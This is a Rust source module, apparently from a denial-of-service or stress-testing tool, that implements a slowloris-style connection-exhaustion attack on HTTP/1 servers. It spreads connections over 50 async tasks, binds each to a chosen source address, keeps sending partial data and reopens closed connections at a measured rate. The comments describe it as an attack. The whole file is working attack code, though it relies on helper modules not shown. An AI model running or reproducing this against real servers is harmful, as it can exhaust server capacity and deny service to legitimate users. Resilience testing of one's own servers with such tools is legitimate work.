//! Many connections of HTTP/1 that are opened, told something, and kept. What the server closes is opened again, at a
//! measured pace: the attack is by held places, not by opening connections.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

use crate::tally::Tally;
use crate::wire;

const TASKS: usize = 50;
/// Between two looks at each connection.
const LOOK: Duration = Duration::from_millis(500);
/// Of the connections of one task, in one look: a thousand a second altogether.
const REOPENED_MAX: usize = 10;

/// How one connection behaves.
#[derive(Clone)]
pub struct Manner {
    pub from: Ipv4Addr,
    /// Said at once.
    pub opening: Vec<u8>,
    /// Said again at each look.
    pub more: Vec<u8>,
    /// Whether answers are taken.
    pub reads: bool,
    /// What the kernel may take in for it; its default when there is none.
    pub receive_bytes: Option<u32>,
}

impl Manner {
    pub fn quiet(from: Ipv4Addr, opening: impl Into<Vec<u8>>) -> Self {
        Self { from, opening: opening.into(), more: Vec::new(), reads: true, receive_bytes: None }
    }
}

/// Opens and keeps one connection for each manner, until the set is dropped.
pub fn hold(to: SocketAddr, manners: Vec<Manner>, tally: &Arc<Tally>) -> JoinSet<()> {
    let mut tasks = JoinSet::new();
    let share = manners.len().div_ceil(TASKS).max(1);
    for part in manners.chunks(share) {
        let (part, tally) = (part.to_vec(), Arc::clone(tally));
        tasks.spawn(async move { keep(to, &part, &tally).await });
    }
    tasks
}

async fn keep(to: SocketAddr, manners: &[Manner], tally: &Tally) {
    let mut kept: Vec<Option<TcpStream>> = manners.iter().map(|_| None).collect();
    let mut left = manners.len();
    loop {
        for (manner, place) in manners.iter().zip(&mut kept) {
            match place {
                Some(stream) if is_over(stream, manner) => {
                    *place = None;
                    tally.refused();
                }
                None if left > 0 => {
                    left -= 1;
                    *place = open(to, manner).await;
                    if place.is_some() { tally.opened() } else { tally.refused() }
                }
                _ => {}
            }
        }
        sleep(LOOK).await;
        left = REOPENED_MAX;
    }
}

async fn open(to: SocketAddr, manner: &Manner) -> Option<TcpStream> {
    let mut stream = wire::connect_with(manner.from, to, manner.receive_bytes).await.ok()?;
    stream.write_all(&manner.opening).await.ok()?;
    Some(stream)
}

/// Says what is to be said, takes what there is to take; whether the server has ended the connection.
fn is_over(stream: &TcpStream, manner: &Manner) -> bool {
    let broken = |error: std::io::Error| error.kind() != std::io::ErrorKind::WouldBlock;
    if !manner.more.is_empty() && stream.try_write(&manner.more).is_err_and(broken) {
        return true;
    }
    if !manner.reads {
        return false;
    }
    let mut answer = [0; 4096];
    loop {
        match stream.try_read(&mut answer) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(error) => return broken(error),
        }
    }
}
